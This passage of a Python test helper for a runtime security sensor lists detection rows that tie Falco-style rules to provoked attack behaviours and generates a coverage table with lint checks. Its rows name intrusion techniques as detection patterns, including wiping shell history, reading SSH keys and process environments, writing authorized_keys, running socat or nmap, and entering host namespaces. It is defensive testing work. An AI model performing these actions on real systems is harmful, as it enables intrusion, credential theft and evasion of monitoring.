    Detection("Log file removed or emptied", "log removed", {"proc.name": "rm"}, ("fd.name", "evt.arg.path", "evt.arg.name", "evt.arg.oldpath")),
    Detection("Shell history removed", "history", {"proc.name": "rm", "evt.arg.name": "{work}/.bash_history"}, ("fd.name", "evt.arg.path", "evt.arg.linkpath")),
    starts("Shell without history", "no history", "sh", **{"proc.pname": "attack", "proc.tty": re.compile("[1-9]")}),
    starts("Security service stopped", "guard stopped", "systemctl"),
    starts("Data destroyed", "shred", "shred"),
    writes("Write below binary dir", "binary directory", "/usr/bin/x"),
    writes("Write below etc", "etc", "/etc/x"),
    Detection("Dropped program executed in container", "dropped program", {"proc.name": "dropped", "proc.exepath": "/tmp/dropped"}, EXEC, NO_LAYER),
    starts("New program executed", "new program", "fresh", **{"proc.exepath": "{work}/fresh", "proc.exe": "./fresh"}),
    Detection("File made executable", "made executable", {"proc.name": "chmod", "evt.arg.filename": "{work}/x"}, ("fd.name",)),
]

GENERATOR = [
    writes("shell's settings written", "shell's settings", "{work}/.zshrc"),
    Detection("shell's settings read", "shell's settings read", {"proc.name": "cat", "fd.name": "{work}/.zshenv"}),
    writes("task scheduled", "cron", "/etc/cron.d/x"),
    starts("crontab started", "crontab", "crontab"),
    Detection("ssh file read", "folder of keys", {"proc.name": "ls", "fd.name": "/root/.ssh", "fd.type": "directory"}),
    Detection("ssh file read", "known hosts", {"proc.name": "cat", "fd.name": "/root/.ssh/known_hosts"}),
    starts("database starts a program", "database", "ls", **{"proc.pname": "mysqld"}),
    Detection("namespace entered", "namespace of the host", {**ATTACK, "evt.type": "setns"}),
    *(Detection(rule, "container", {"proc.name": "sleep", "proc.cwd": "/", "proc.pname": KNOWN, "proc.cmdline": "sleep 300"},
                not_by_ptrace=STARTED)
      for rule in ("privileged container started", "capable container started", "sensitive mount started", "root container started")),
    Detection("system program on the network", "system program", {"proc.name": "sha1sum", "fd.rport": 8000, "evt.type": "connect"}),
    starts("proxy from the environment", "proxy", "curl"),
    starts("tunables", "tunables", "id"),
    Detection("datagram to an unusual port", "connected datagram", {**ATTACK, "fd.rport": 7000, "fd.type": "ipv4"}),
    Detection("datagram sent", "datagram", {**ATTACK, "fd.name": re.compile(r".*->203\.0\.113\.7:7001$"), "fd.sport": 7001}),
    Detection("other user", "setuid", {**ATTACK, "evt.arg.uid": "root", "user.name": "nobody", "user.uid": 65534}),
    Detection("other user", "setuid within", {**ATTACK, "evt.arg.uid": "web", "user.name": "web", "user.uid": 33, "group.name": "pages"}),
    starts("users managed", "account", "useradd"),
    writes("device made", "device", "/dev/young"),
    Detection("metadata contacted", "metadata", {"proc.name": "curl", "fd.lport": KNOWN}),
    starts("packages managed in a container", "apk", "apk"),
    starts("network tool", "socat", "socat"),
    starts("network tool", "scanner", "nmap"),
    Detection("history changed", "history", {"proc.name": "rm"}, ("evt.arg.path", "evt.arg.oldpath", "fd.name")),
    Detection("history changed", "history renamed", {"proc.name": "mv", "evt.arg.oldpath": "{work}/.bash_history"}, ("evt.arg.name", "evt.arg.path", "fd.name")),
    writes("history changed", "history emptied", "{work}/.ash_history", ("evt.arg.path", "evt.arg.oldpath")),
    Detection("setuid bit", "setuid bit", {"proc.name": "chmod", "evt.arg.filename": "{work}/x"}, ("evt.arg.fd",)),
    Detection("setuid bit", "setuid bit by descriptor", {**ATTACK, "evt.arg.fd": re.compile(".*{work}/x"), "fd.name": "{work}/x"}, ("evt.arg.filename",)),
    starts("files copied away", "scp", "scp"),
    starts("download in a container", "wget", "wget"),
    starts("download in a container", "curl -o", "curl"),
    starts("mount in a privileged container", "disk mounted", "mount"),
    Detection("environment read", "own environment", {"proc.name": "cat", "fd.name": re.compile(r"/proc/\d+/environ$")}),
    Detection("copied out", "copied out", {"proc.name": "tar", "fd.name": "/programs/attack", "proc.cwd": "/", "proc.pname": KNOWN}),
    writes("repository changed", "repository", "/etc/apt/sources.list", ("evt.arg.newpath",)),
    Detection("repository changed", "repository renamed", {"proc.name": "mv", "evt.arg.newpath": "/etc/apt/z"}, ("fd.name",)),
    writes("binary directory written", "binary directory", "/usr/bin/x"),
    writes("monitored directory written", "library", "/usr/lib/libx.so"),
    writes("monitored directory written", "user's keys", "/home/amy/.ssh/authorized_keys"),
    writes("root directory written", "root's file", "/young"),
    writes("root directory written", "shell's file", "/root/.bashrc"),
    writes("package database written", "rpm", "/var/lib/rpm/x"),
    Detection("binary directory modified", "binary removed", {"proc.name": "rm", "evt.args": re.compile(".*/usr/bin/young")}),
    Detection("binary directory modified", "binary renamed", {"proc.name": "mv", "evt.args": re.compile(".*/usr/bin/a.*/usr/bin/b")}),
    Detection("directory made among binaries", "directory among binaries", {"proc.name": "mkdir", "evt.arg.path": "/usr/bin/d"}),
    Detection("interpreter called", "lua listens", {"proc.name": "lua", "evt.type": "listen", "fd.lport": 8001}, ("fd.cip", "fd.cport", "fd.rport")),
    Detection("interpreter called", "ruby accepts",
              {"proc.name": "ruby", "evt.type": "accept", "fd.lport": 8002, "fd.sip": "203.0.113.7", "fd.cip": "203.0.113.7"}),
    Detection("interpreter calls", "lua listens", {"proc.name": "lua", "fd.rport": 8001}),
    Detection("node port", "node port", {**ATTACK, "fd.sport": 30001, "evt.type": "connect"}),
    Detection("hidden file", "hidden folder", {"proc.name": "mkdir", "evt.arg.path": "{work}/.folder"}, ("fd.name", "evt.arg.newpath")),
    writes("hidden file", "shell's settings", "{work}/.zshrc", ("evt.arg.newpath", "evt.arg.path")),
    starts("stratum", "stratum", "attack"),
    starts("cluster's client", "kubectl", "kubectl"),
    Detection("drift by mode", "made executable", {"proc.name": "chmod", "evt.arg.filename": "{work}/x"}, ("evt.arg.name",)),
    writes("drift by opening", "executable made", "{work}/x", ("evt.arg.filename",)),
    writes("drift by opening", "executable by creat", "{work}/x", ("evt.arg.filename",)),
    starts("sudoedit", "sudoedit", "sudoedit", **{"user.name": "amy", "user.uid": 65534}),
    Detection("page faults", "page faults", {**ATTACK, "user.name": "nobody"}),
    starts("pkexec", "pkexec without arguments", "pkexec", **{"user.name": "amy", "user.uid": 65534, "group.name": "root", "proc.args": ""}),
    Detection("entry point written", "entry point", ATTACK),
    starts("payload decoded", "base64", "base64"),
    starts("looking around", "whoami", "whoami", **{"proc.pname": "attack", "proc.tty": re.compile("[1-9]")}),
    starts("npm's tool", "npm", "nmap", **{"proc.pname": "attack", "proc.aname[2]": "npm"}),
    Detection("privileges by a namespace", "unshare", {**ATTACK, "user.name": "nobody", "evt.arg.flags": re.compile(".*CLONE_NEWUSER")}, ("thread.cap_permitted",)),
    Detection("block device", "disk opened", {"proc.name": "cat", "fd.name": "/dev/sdz"}),
    Detection("host's path", "host's path", {"proc.name": "cat", "fd.name": "/hostfs/x"}),
    Detection("link in the way", "by a link", {"proc.name": "cat", "fd.name": "/var/run/secrets/kubernetes.io/x"}),
    Detection("class file", "class file", {"proc.name": "java", "evt.type": "recvfrom", "fd.sip": "127.0.0.1", "fd.sport": KNOWN}),
    Detection("inbound datagram", "datagram received", {**ATTACK, "evt.type": "recvfrom", "fd.cip": "203.0.113.7", "fd.cport": KNOWN}),
]

TABLES = {"falco_rules.yaml": FALCO, "tocsin_rules.yaml": SHIPPED, "generator_rules.yaml": GENERATOR}


# ---- the table ----

TITLES = {"falco_rules.yaml": "Falco's stable rules", "tocsin_rules.yaml": "The rules for system calls that are shipped",
          "generator_rules.yaml": "What rules of others ask (tests/attacks/generator\\_rules.yaml)"}
HEAD = """# Which rules ring, and by what

Each of these attacks is made for real by `tests/integration/test_provoke.py`, on the host or in a container, with `tocsin-sensor` and
`tocsin-hub` running and all rules loaded as they are; the alert must arrive with the facts of the deed (process, parent, command, user,
file or connection, container and image), and with no `<NA>` in its text for what exists. They are made three times: while the sensor
watches the machine by eBPF, as the command of a sensor (`tocsin-sensor run -- …`), and below a shell that a sensor is attached to
(`tocsin-sensor attach PID`).

This file is written by `tests/attacks/detections.py` from the data of that test; a lint keeps it so.
"""


def cell(text):
    return text.replace("|", "\\|").replace("*", "\\*")


def table(rows):
    attacks = {attack.name: attack for attack in ATTACKS}
    yield "| rule | provoked by | where | eBPF | run | attach |"
    yield "|---|---|---|---|---|---|"
    for row in rows:
        if isinstance(row, Unprovoked):
            yield f"| {cell(row.rule)} | *not provoked: {cell(row.why)}* | | – | – | – |"
        else:
            yield (f"| {cell(row.rule)} | {cell(attacks[row.attack].says)} | {attacks[row.attack].where} | yes | {row.not_by_ptrace or 'yes'} | "
                   f"{row.not_by_ptrace or row.not_by_attach or 'yes'} |")


def document():
    parts = [HEAD]
    for file, rows in TABLES.items():
        provoked = len({row.rule for row in rows if isinstance(row, Detection)})
        parts.append(f"## {TITLES[file]}: {provoked} of {len({row.rule for row in rows})}\n\n" + "\n".join(table(rows)) + "\n")
    return "\n".join(parts)


def wrong_rows(file, rows):
    """What the table lacks of a rules file, and has too much."""
    names = set(re.findall(r"^- rule: *(.*?) *$", file.read_text(), flags=re.M))
    told = {row.rule for row in rows}
    yield from (f"{file.name}: {name}: is not in the table" for name in sorted(names - told))
    yield from (f"{file.name}: there is no rule {name}" for name in sorted(told - names))


def clashes(files):
    """Lists and macros that two files name: the later file would change what the earlier one means."""
    seen = {}
    for file in files:
        for kind, name in re.findall(r"^- (list|macro|rule): *(.*?) *$", file.read_text(), flags=re.M):
            if seen.setdefault((kind, name), file) != file:
                yield f"{file.name}: {kind} {name}: {seen[kind, name].name} has one of that name"


def unused():
    """Attacks that nobody looks at, and rows with an attack that does not exist."""
    used = {row.attack for rows in TABLES.values() for row in rows if isinstance(row, Detection)}
    yield from (f"attack {name}: is not in ATTACKS" for name in sorted(used - {attack.name for attack in ATTACKS}))
    yield from (f"attack {attack.name}: no rule is asked for it" for attack in ATTACKS if attack.name not in used)


def main():
    path = pathlib.Path(sys.argv[-1] if sys.argv[1] != "--check" else sys.argv[2])
    if sys.argv[1] != "--check":
        path.write_text(document())
        return 0
    wrong = [] if path.read_text() == document() else [f"{path}: is not what tests/attacks/detections.py {path} writes"]
    wrong += unused()
    files = [pathlib.Path(file) for file in sys.argv[3:] if pathlib.Path(file).exists()]  # Falco's are not part of this repository
    for file in files:
        wrong += wrong_rows(file, TABLES[file.name])
    wrong += clashes(files)
    print("\n".join(wrong) if wrong else "the table is whole")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
